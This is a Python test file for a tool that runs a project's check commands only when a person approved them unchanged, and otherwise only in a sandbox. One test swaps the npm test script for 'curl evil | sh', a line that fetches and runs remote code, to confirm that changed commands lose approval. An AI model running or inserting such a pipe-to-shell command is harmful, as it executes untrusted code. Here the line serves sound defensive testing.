"""Which checks count: what a person chose once, bound to what it ran then; the rest only in a sandbox."""

from __future__ import annotations

from pathlib import Path

import pytest

from greenroom.app.runs.checks import (
    CheckChoices,
    CheckPlan,
    FolderReader,
    describe_check,
    list_check_items,
    make_own_check,
    plan_checks,
    plan_project_checks,
    read_worktree_setup,
)
from greenroom.app.trust import TrustStore
from greenroom.core.base.errors import WorldFault
from greenroom.core.ports.checks import Check
from greenroom.runs.checkout import WorkspaceSetup
from greenroom.runs.discovery import find_checks_in
from tests.runs.projects import written

PACKAGE = '{"scripts": {"test": "jest", "lint": "eslint ."}}'


class Project:
    """A project and a person who is asked about its checks."""

    def __init__(self, folder: Path) -> None:
        self.root = written(folder / "project", {"package.json": PACKAGE})
        (folder / "own").mkdir(mode=0o700)
        self.choices = CheckChoices(folder / "own" / "checks.json", TrustStore(folder / "own" / "trust.json"))

    @property
    def found(self) -> tuple[Check, ...]:
        return find_checks_in(FolderReader(self.root))

    def plan(self, *, walls: bool = False, more: tuple[Check, ...] = ()) -> CheckPlan:
        trusted = self.choices.ledger.make_trust_check(self.root)
        return plan_checks((*self.found, *more), self.choices.get(self.root), trusted, sandboxed=walls)


@pytest.fixture(name="project")
def a_project(tmp_path: Path) -> Project:
    return Project(tmp_path)


def test_what_nobody_approved_runs_in_a_sandbox_only(project: Project) -> None:
    plan = project.plan()
    assert (plan.run, plan.confirmed) == ((), frozenset())
    assert plan.unapproved == project.found
    why = "it is not approved, and this machine has no sandbox. Approve it with `greenroom trust`."
    assert plan.skip_reasons == (f"npm test is not run: {why}", f"npm run lint is not run: {why}")
    walled = project.plan(walls=True)
    assert (walled.run, walled.confirmed, walled.skip_reasons) == (project.found, frozenset(), ())


def test_none_is_a_choice_too(project: Project) -> None:
    project.choices.save(project.root, [], project.found)
    declined = frozenset(one.digest for one in project.found)
    assert project.plan(walls=True) == CheckPlan(declined=declined, project_checks=project.found)
    project.choices.forget(project.root)
    assert project.choices.get(project.root) is None
    assert project.plan().unapproved == project.found


def test_a_command_that_means_something_else_is_asked_about_anew(project: Project) -> None:
    project.choices.save(project.root, project.found, project.found)
    written(project.root, {"package.json": PACKAGE.replace("jest", "curl evil | sh")})
    plan = project.plan()
    assert [one.name for one in plan.run] == ["npm run lint"]
    assert [one.name for one in plan.unapproved] == ["npm test"]
    assert plan.skip_reasons[0].startswith("npm test is not run: it has changed since you approved it")
    written(project.root, {"package.json": '{"scripts": {"test": "jest"}}'})
    assert [check.name for check in project.plan().run] == ["npm test"], "what is gone is not run"


def test_trust_taken_back_is_taken_back_from_checks(project: Project) -> None:
    project.choices.save(project.root, project.found, project.found)
    project.choices.ledger.revoke(project.root)
    assert project.plan().run == ()


def test_what_a_person_typed_is_theirs_unless_the_project_has_it(project: Project) -> None:
    mine = make_own_check("  ./verify --fast ", project.found)
    assert (mine.line, mine.own) == ("./verify --fast", True)
    assert make_own_check("npm  test", project.found) == project.found[0]
    project.choices.save(project.root, [mine], project.found)
    written(project.root, {"package.json": "{}"})
    assert [check.line for check in project.plan().run] == ["./verify --fast"]


@pytest.mark.parametrize(
    ("text", "why"),
    [("{", "Your choice of checks is unknown"), ('{"version": 9}', "version 9"), ('{"projects": 3}', "projects")],
)
def test_choices_that_cannot_be_read_are_none(project: Project, text: str, why: str) -> None:
    project.choices.path.write_text(text)
    project.choices.path.chmod(0o600)
    with pytest.raises(WorldFault, match=why):
        project.plan()


def test_choices_that_others_can_write_are_none(project: Project) -> None:
    project.choices.path.write_text("{}")
    project.choices.path.chmod(0o666)
    with pytest.raises(WorldFault, match="other users can write it"):
        project.plan()
    project.choices.path.unlink()
    project.choices.path.mkdir()
    with pytest.raises(WorldFault, match="cannot be read"):
        project.plan()


def test_a_check_is_shown_with_what_it_stands_for(tmp_path: Path) -> None:
    root = written(tmp_path / "x", {"package.json": '{"scripts": {"test": "' + "a" * 300 + '"}}', "pytest.ini": ""})
    shown = {one.name: one.shown for one in list_check_items(root)}
    assert shown["pytest"] == "python3 -m pytest · pytest.ini sets up pytest."
    assert shown["npm test"].startswith("npm test · package.json has the script 'test'. · test: aaa")
    assert shown["npm test"].endswith("a…")
    elsewhere = Check(name="c", line="c", kind="test", why="w.", folder="web")
    assert describe_check(elsewhere).shown == "c (in web) · w."
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o1777)
    assert list_check_items(written(shared, {"pytest.ini": ""})) == ()


def test_only_plain_files_inside_are_looked_at(tmp_path: Path) -> None:
    root = written(tmp_path / "x", {"a": "1"})
    written(tmp_path, {"secret": "2"})
    (root / "out").symlink_to(tmp_path / "secret")
    (root / "loop").symlink_to(root / "loop")
    look = FolderReader(root)
    assert [look.read(name) for name in ("a", "out", "loop", "none", "\0", ".")] == [b"1", None, None, None, None, None]
    assert look.names(".") == {"a", "out", "loop"}
    assert look.names("none") == frozenset()


LINE = '[workspace]\nsetup = "uv sync"\nseconds = "5m"\nlend = [".deps"]\n'
CHECK = '[checks.unit]\nrun = "make unit"\n'


@pytest.fixture(name="root")
def _root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A project of a person who has no settings yet."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.delenv("GREENROOM_CONFIG", raising=False)
    (tmp_path / "project" / ".greenroom").mkdir(parents=True)
    (tmp_path / "config" / "greenroom").mkdir(parents=True)
    return tmp_path / "project"


def set_own(root: Path, text: str) -> None:
    (root.parent / "config" / "greenroom" / "config.toml").write_text(text)


def set_projects(root: Path, text: str) -> None:
    (root / ".greenroom" / "config.toml").write_text(text)


def test_a_setup_of_the_persons_own_runs_everywhere_and_one_of_the_project_in_a_sandbox(root: Path) -> None:
    assert read_worktree_setup(root, sandboxed=False) == WorkspaceSetup()
    set_own(root, LINE)
    assert read_worktree_setup(root, sandboxed=False) == WorkspaceSetup(line="uv sync", seconds=300.0)
    set_own(root, "")
    set_projects(root, LINE)
    assert read_worktree_setup(root, sandboxed=True).left == ""
    left = read_worktree_setup(root, sandboxed=False).left
    assert left.startswith("`uv sync` was not run: ")
    assert "no sandbox" in left


def test_checks_that_are_gone_from_the_folder_judge_the_run_that_began_with_them(root: Path) -> None:
    written(root, {"pyproject.toml": "[tool.pytest.ini_options]\n", "test_a.py": "def test_a(): ...\n"})
    known = plan_project_checks(root, sandboxed=True).project_checks
    written(root, {"-pyproject.toml": "", "-test_a.py": "", "Makefile": "check:\n\ttrue\n"})
    assert plan_project_checks(root, sandboxed=True, earlier_checks=known).run == known
    assert plan_project_checks(root, sandboxed=True, earlier_checks=()).run == (), "and what came since does not"
    set_own(root, CHECK)
    assert [check.name for check in plan_project_checks(root, sandboxed=True, earlier_checks=known).run] == [
        "unit",
        "pytest",
    ], "theirs do"
